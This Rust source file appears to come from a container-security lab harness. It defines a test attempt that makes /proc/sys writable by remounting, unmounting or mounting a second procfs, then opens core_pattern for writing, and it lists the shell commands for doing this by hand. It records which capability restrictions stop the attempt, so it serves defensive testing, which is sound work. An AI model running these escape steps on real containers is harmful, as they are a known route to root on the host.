//! core-pattern-remount: the same, after undoing what makes it read-only.

use super::core_pattern::{CORE_PATTERN, witness};
use super::{Attack, Attempt, Measured, Need};
use crate::Inside;
use crate::inside::procfs::{new_procfs, procfs};
use crate::inside::sysctl::write_back;
use nix::errno::Errno;
use nix::libc;
use nix::mount::{MntFlags, MsFlags, mount, umount2};

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "core-pattern-remount",
    stake: "Root on the host, once more: a read-only mount holds only against those who may not mount.",
    story: "The attacker undoes the read-only /proc/sys in three ways: it remounts it writable, it unmounts what \
            lies there, and it mounts a second procfs that has no such mount upon it. After each it opens \
            core_pattern for writing and writes back the value that it found. All three need CAP_SYS_ADMIN in \
            the container's mount namespace, which root in a container has until it is taken away (EPERM).",
    by_hand: &["mount -o remount,bind,rw /proc/sys", "exec 3<> /proc/sys/kernel/core_pattern"],
    stopped_by: &["lab4-capabilities/bounding-set", "lab4-capabilities/capability-sets"],
    after: &["core-pattern"],
    man: &["mount(2)", "umount(2)", "core(5)", "capabilities(7)"],
    letters: Measured { root: "E EEEEBBB", user: "I IIIIIII", rootless: "I IIIIIII" },
    needs: &[Need::FreshHost],
    decisive: &[libc::SYS_mount, libc::SYS_umount2, libc::SYS_openat, libc::SYS_pwrite64],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    // Where none can be mounted, there may still be one to remount.
    let procfs = procfs().unwrap_or("/proc");
    let sys = format!("{procfs}/sys");
    me.decisive(&format!("mount(\"{sys}\", MS_REMOUNT|MS_BIND), umount2(\"{sys}\"), mount(\"proc\")"));
    let writable = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
    let remounted = mount(None::<&str>, sys.as_str(), None::<&str>, writable, None::<&str>);
    let opened = remounted.and_then(|()| write_back(me, &format!("{procfs}/{CORE_PATTERN}")));
    if opened.is_ok() {
        return Ok(());
    }
    let unmounted = umount2(sys.as_str(), MntFlags::MNT_DETACH);
    let opened = unmounted.and_then(|()| write_back(me, &format!("{procfs}/{CORE_PATTERN}")));
    if opened.is_ok() {
        return Ok(());
    }
    let second = new_procfs()?;
    write_back(me, &format!("{second}/{CORE_PATTERN}"))
}
